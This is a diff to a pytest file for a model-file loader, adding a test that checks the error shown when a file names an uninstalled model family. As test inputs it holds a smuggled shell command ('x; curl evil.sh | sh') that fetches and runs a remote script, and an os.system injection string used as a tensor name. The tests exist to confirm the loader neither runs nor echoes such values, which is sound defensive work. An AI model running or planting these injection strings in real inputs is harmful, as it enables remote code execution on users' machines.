@@ -213,3 +213,14 @@ def test_plain_safetensors_with_pickle_like_tensor_names(tmp_path) -> None:
     head = {"family": "conv1d", "hparams": {"channels": 1, "window": 8, "hidden": 2, "latent": 2, "depth": 1}}
     save_file({"__import__('os').system('touch x')": torch.zeros(1)}, str(path), metadata={"tsae": json.dumps(head)})
     one_line_error(path, "unexpected")
+
+
+@pytest.mark.parametrize(("distribution", "shown"), [("tsae-ridge", ", distribution 'tsae-ridge'"),
+                                                      ("x; curl evil.sh | sh", "")])
+def test_an_uninstalled_family_names_the_distribution_its_file_records(tmp_path, distribution, shown) -> None:
+    path = tmp_path / "ridge.tsae"
+    head = {"family": "ridge", "plugin": "ridge", "plugin_version": "0.3.0", "distribution": distribution,
+            "hparams": {"channels": 1, "window": 8}}
+    save_file({"w": torch.zeros(2)}, str(path), metadata={"tsae": json.dumps(head)})
+    assert one_line_error(path) == (f"{path}: model family 'ridge' is not installed (plugin 'ridge' 0.3.0{shown}); "
+                                    "install it or check `tsae models`")
